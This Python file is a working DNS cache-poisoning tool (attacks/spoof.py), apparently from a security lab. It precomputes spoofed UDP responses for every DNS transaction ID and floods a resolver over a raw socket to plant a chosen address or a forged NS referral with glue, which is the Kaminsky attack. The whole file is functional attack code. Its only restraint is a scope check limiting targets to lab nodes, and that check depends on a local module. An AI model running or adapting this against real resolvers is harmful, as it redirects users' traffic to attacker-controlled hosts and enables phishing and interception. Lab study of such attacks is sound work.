"""Forged DNS responses, fast: the answer a resolver waits for, sent as if from the server it asked,
under every transaction ID in turn (the Kaminsky race). ``python3 attacks/spoof.py --source SERVER
--target RESOLVER --port PORT --name QNAME --answer ADDRESS [--authority NAME NS GLUE-ADDRESS]
[--seconds S] [--packets P]`` prints JSON ``{"sent", "seconds", "pps"}``.

Speed comes from building every packet once (IPv4 + UDP + DNS, all 65,536 IDs, the UDP checksum
left at zero as IPv4 allows, the IP checksum and ID filled in by the kernel) and then only
sending them, in batches whose loop runs in C, through one connected raw socket (CAP_NET_RAW in the node's namespace: the attacker's own
lab). Both addresses must be nodes of this lab (:mod:`scope`); bounded like every tool.
"""
from __future__ import annotations

import argparse
import collections
import ipaddress
import json
import socket
import struct
import sys
import time

import dns.flags
import dns.message
import dns.name
import dns.rrset

import scope


def response(name: str, answer: str | None, authority: tuple[str, str, str | None] | None) -> bytes:
    """The forged response's DNS message (ID 0), as wire: an authoritative answer, or without
    ``answer`` a referral to ``authority`` (zone, its name server, the server's address if the
    name is inside the zone: glue)."""
    qname = dns.name.from_text(name)
    r = dns.message.make_response(dns.message.make_query(qname, "A"), recursion_available=False)
    if answer is not None:
        r.flags |= dns.flags.AA
        r.answer.append(dns.rrset.from_text(qname, 3600, "IN", "A", answer))
    if authority:
        zone, ns, glue = (dns.name.from_text(authority[0]), dns.name.from_text(authority[1]), authority[2])
        r.authority.append(dns.rrset.from_text(zone, 3600, "IN", "NS", ns.to_text()))
        if glue:
            r.additional.append(dns.rrset.from_text(ns, 3600, "IN", "A", glue))
    r.id = 0
    return r.to_wire()


def udp_packet(source: str, target: str, sport: int, dport: int, payload: bytes) -> bytes:
    """An IPv4/UDP packet as a raw socket sends it (the UDP checksum left at zero, as IPv4 allows;
    the IP checksum and ID filled in by the kernel)."""
    udp_len = 8 + len(payload)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0x4000, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(source), socket.inet_aton(target))
    return ip + struct.pack("!HHHH", sport, dport, udp_len, 0) + payload


def packets(source: str, target: str, port: int, payload: bytes) -> list[bytes]:
    """One IPv4/UDP packet per DNS transaction ID (the ID: the 2 bytes after the 28 of headers)."""
    whole = udp_packet(source, target, 53, port, payload)
    head, tail = whole[:28], whole[30:]
    return [head + struct.pack("!H", i) + tail for i in range(65536)]


BATCH = 4096  # packets sent between two looks at the clock


def raw_socket(target: str) -> socket.socket:
    """A raw IPv4 socket connected to ``target`` (no address to parse per packet)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.connect((target, 0))
    return sock


def blast(sock: socket.socket, wires: list[bytes], start: int, n: int) -> int:
    """Send ``n`` of ``wires`` from index ``start`` on (wrapping), in a loop that runs in C."""
    at = start % len(wires)
    collections.deque(map(sock.send, (wires[at:at + n] + wires[:max(0, at + n - len(wires))])), maxlen=0)
    return n


def main(argv: list[str]) -> int:
    ap = argparse.ArgumentParser(prog="spoof.py", description=__doc__.split("\n\n")[0])
    ap.add_argument("--source", required=True, help="the server the resolver asked (a node of this lab)")
    ap.add_argument("--target", required=True, help="the resolver (a node of this lab)")
    ap.add_argument("--port", type=int, required=True, help="the resolver's query source port")
    ap.add_argument("--name", required=True, help="the name asked")
    ap.add_argument("--answer", required=True, help="the address to plant")
    ap.add_argument("--authority", nargs=3, metavar=("ZONE", "NS", "GLUE"), help="a forged referral too")
    ap.add_argument("--seconds", type=float, default=5)
    ap.add_argument("--packets", type=int, default=200_000)
    args = ap.parse_args(argv[1:])
    try:
        seconds, limit = scope.bounded("seconds", args.seconds), int(scope.bounded("packets", args.packets))
        if not 0 < args.port < 65536:
            raise ValueError(f"port: 1 to 65535, not {args.port}")
        ipaddress.IPv4Address(args.answer)
    except ValueError as exc:
        sys.exit(f"refused: {exc}")
    source, target = scope.target(args.source), scope.target(args.target)
    if ":" in source or ":" in target:
        sys.exit("refused: the spoofer forges IPv4 packets; give IPv4 addresses")
    wires = packets(source, target, args.port, response(args.name, args.answer,
                                                        tuple(args.authority) if args.authority else None))
    sock = raw_socket(target)
    sent, t0 = 0, time.monotonic()
    deadline = t0 + seconds
    while sent < limit and time.monotonic() < deadline:
        sent += blast(sock, wires, sent, min(BATCH, limit - sent))
    took = time.monotonic() - t0
    print(json.dumps({"sent": sent, "seconds": round(took, 3), "pps": round(sent / took) if took else 0}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
